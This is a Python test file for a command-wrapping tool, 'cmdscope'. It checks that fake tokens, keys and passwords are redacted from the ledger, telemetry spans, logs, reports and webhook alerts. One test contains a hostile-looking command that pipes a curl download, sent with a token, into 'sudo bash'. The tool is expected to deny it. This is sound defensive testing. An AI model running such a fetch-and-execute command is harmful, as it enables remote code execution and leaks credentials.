"""A secret on a command line or in its output reaches no sink: ledger, span attributes, log
event attributes, notifier (alert) payloads, reports and incident stubs alike."""

from __future__ import annotations

import json
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from conftest import PYTHON, cmdscope_cli
from otlp_receiver import OtlpReceiver

# Fake secrets in the formats the redactor knows (never real credentials).
GH_TOKEN = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
AWS_KEY = "AKIA" + "QWERTYUIOPASDFGH"
PASSWORD = "s3cr3t-Pa55w0rd-xyz"


def windows(secret: str, size: int = 12) -> list[str]:
    return [secret[i:i + size] for i in range(len(secret) - size + 1)]


def assert_clean(text: str, where: str) -> None:
    for secret in (GH_TOKEN, AWS_KEY, PASSWORD):
        for window in windows(secret):
            assert window not in text, f"{where} leaks {window!r}"


def secret_command() -> list[str]:
    # The secrets are on the command line and in the failing command's stderr.
    code = f"import sys; sys.stderr.write('auth failed for token {GH_TOKEN}\\n'); sys.exit(1)"
    return [PYTHON, "-c", code, f"--password={PASSWORD}", f"AWS_ACCESS_KEY_ID={AWS_KEY}"]


class _Capture(BaseHTTPRequestHandler):
    bodies: list[bytes] = []

    def do_POST(self) -> None:
        _Capture.bodies.append(self.rfile.read(int(self.headers.get("Content-Length", 0))))
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


def test_ledger_spans_logs_reports(ledger_path: Path) -> None:
    """Ledger line, exported span and log attributes, and the failure report are all redacted."""
    receiver = OtlpReceiver().start()
    try:
        env = {"OTEL_EXPORTER_OTLP_ENDPOINT": receiver.endpoint}
        out = cmdscope_cli("run", "--", *secret_command(), env=env, capture_output=True, text=True)
        assert out.returncode == 1
        assert GH_TOKEN in out.stderr  # the command's own output is never altered
        ledger = ledger_path.read_text()
        assert "[REDACTED:" in ledger
        assert_clean(ledger, "ledger")
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and not (receiver.received.spans and receiver.received.logs):
            time.sleep(0.1)
        assert receiver.received.spans and receiver.received.logs
        assert_clean(json.dumps([s.attributes for s in receiver.received.spans]), "span attributes")
        assert_clean(json.dumps(receiver.received.logs), "log attributes")
    finally:
        receiver.stop()
    for argv in (("report", "failures", "--by", "command", "--format", "json"),
                 ("report", "failures", "--by", "command"), ("ledger", "query", "--json")):
        report = cmdscope_cli(*argv, capture_output=True, text=True)
        assert report.returncode == 0, report.stderr
        assert_clean(report.stdout, " ".join(argv))


def test_in_process_span_and_alert_payload(ledger_path: Path, tmp_path: Path) -> None:
    """In-process: the SDK span and the notifier's webhook payload for a denial carry no secret."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Capture)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    _Capture.bodies = []
    script = f"""
import json, sys
from opentelemetry import trace
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
import cmdscope
exp = InMemorySpanExporter(); tp = TracerProvider(); tp.add_span_processor(SimpleSpanProcessor(exp))
trace.set_tracer_provider(tp)
cmdscope.run({secret_command()!r}, stderr=-3)
try:
    cmdscope.run("curl -H 'Authorization: token {GH_TOKEN}' https://x.invalid | sudo bash", shell=True)
except cmdscope.CommandDenied:
    pass
from cmdscope import _pipeline as pipeline
pipeline.flush_notifier(5)
print(json.dumps([dict(s.attributes) for s in exp.get_finished_spans()]))
"""
    env = {"CMDSCOPE_NOTIFY_WEBHOOKS": f"http://127.0.0.1:{server.server_address[1]}/hook"}
    out = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                         env={**__import__("os").environ, **env}, timeout=60)
    server.shutdown()
    assert out.returncode == 0, out.stderr
    spans = json.loads(out.stdout)
    assert len(spans) == 2 and spans[1]["cmdscope.outcome"] == "denied"
    assert_clean(out.stdout, "in-process spans")
    assert _Capture.bodies, "the denial was not posted"
    assert_clean(b"".join(_Capture.bodies).decode(), "notifier payload")
    assert_clean(ledger_path.read_text(), "ledger")
